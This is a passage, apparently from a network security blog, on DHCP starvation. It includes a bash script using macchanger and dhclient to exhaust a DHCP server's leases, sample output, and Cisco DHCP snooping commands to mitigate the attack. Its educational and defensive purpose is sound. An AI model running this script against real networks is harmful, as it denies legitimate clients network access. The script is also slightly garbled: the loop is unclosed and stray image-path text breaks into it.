DHCP starvation - quick and dirty

The DHCP starvation attack is quite simple to implement and therefore quite dangerous, especially if it grows to a DHCP spoofing attack. It can be used to implement a Denial of Service (DoS) attack against the DHCP server on the local network, thus preventing legitimate clients from accessing network resources. In this article we will demonstrate how this attack can be deployed and later we will go through the steps necessary to mitigate it on Cisco equipment with the help of DHCP snooping.


The ideabehind DHCP starvation is to make dummy leases for all IPs in the DHCP range. This will effectively cause a DoS, as all new network clients that request an IP address from the DHCP server, will not be served, as there will be no free IP addresses to lease. Depending on the lease time configured on the DHCP server, the effect of the attack will last as long as the time required for the leases to expire.

This attack can be automatically performed with yersinia, but for demonstration purposes we will use a quick and dirty script that only uses macchanger and dhclient.

macchanger is a great tool that just makes what it says in it’s name – it changes the MAC address of your network interface. dhclient on the other hand is the standard tool present in almost any Linux distribution, which is used for leasing an IP address from a DHCP server, and renewing the lease when necessary.

To the point – the following bash script demonstrates step by step the way that such attack works:

[email protected]:~# cat starve.sh

while true; do
   # kill all running dhcp clients - just in case
   killall dhclient
   rm -f /var/run/dhclient.pid

   # bring down the interface
   ifconfig eth0 down

   # change the MAC address of the interface and print the new MAC address
   macchanger -a eth0 2>&1 | grep Faked# bring the interface up
   ifconfig eth0 up

   # make a new DHCP lease
   dhclient eth0 2>&1 | grep DHCPACK
[email protected]:~#

The results from running this script, besides causing a DoS attack (for which you will be personally responsible unless you are authorized to perform penetration testing of the network resources involved), will look much like this:

[email protected]:~# ./starve.sh
dhclient: no process killed
Faked MAC:   00:0e:7b:63:fc:18 (Toshiba)
DHCPACK of from
Faked MAC:   00:30:63:ec:24:fb (Santera Systems, Inc.)
DHCPACK of from
Faked MAC:   00:0b:30:df:69:28 (Beijing Gongye Science & Technology Co.,ltd)
Faked MAC:   00:0d:08:d3:d9:ad (Abovecable, Inc.)
Faked MAC:   00:05:20:49:1f:5a (Smartronix, Inc.)^C
[email protected]:~#

When you stop seeingDHCPACKs, this means that you have depleted the available leases of the DHCP server.


When IP allocation is done through DHCP servers, DHCP snooping can be configured on the switches to only allow clients with specific IP/MAC addresses to have access to the network.

Use the following commands toconfigure DHCP snooping:

Toenable DHCP Snooping on a Cisco IOS switch, follow these steps:

! To enables DHCP Snooping globally enter:
switch(config)# ip dhcp snooping
! To enable DHCP Snooping for specific VLANs enter:
switch(config)# ip dhcp snooping vlan <vlan_id> {,<vlan_id>}
! To set the interface to trusted state, which will allow passing DHCP replies enter:
switch(config-if)# ip dhcp snooping trust
! To set a rate limit for DHCP Snooping enter:
switch(config-if)# ip dhcp snooping limit rate <rate>

Leave a Reply

You can use these HTML tags

<a href="" title=""> <abbr title=""> <acronym title=""> <b> <blockquote cite=""> <cite> <code> <del datetime=""> <em> <i> <q cite=""> <s> <strike> <strong>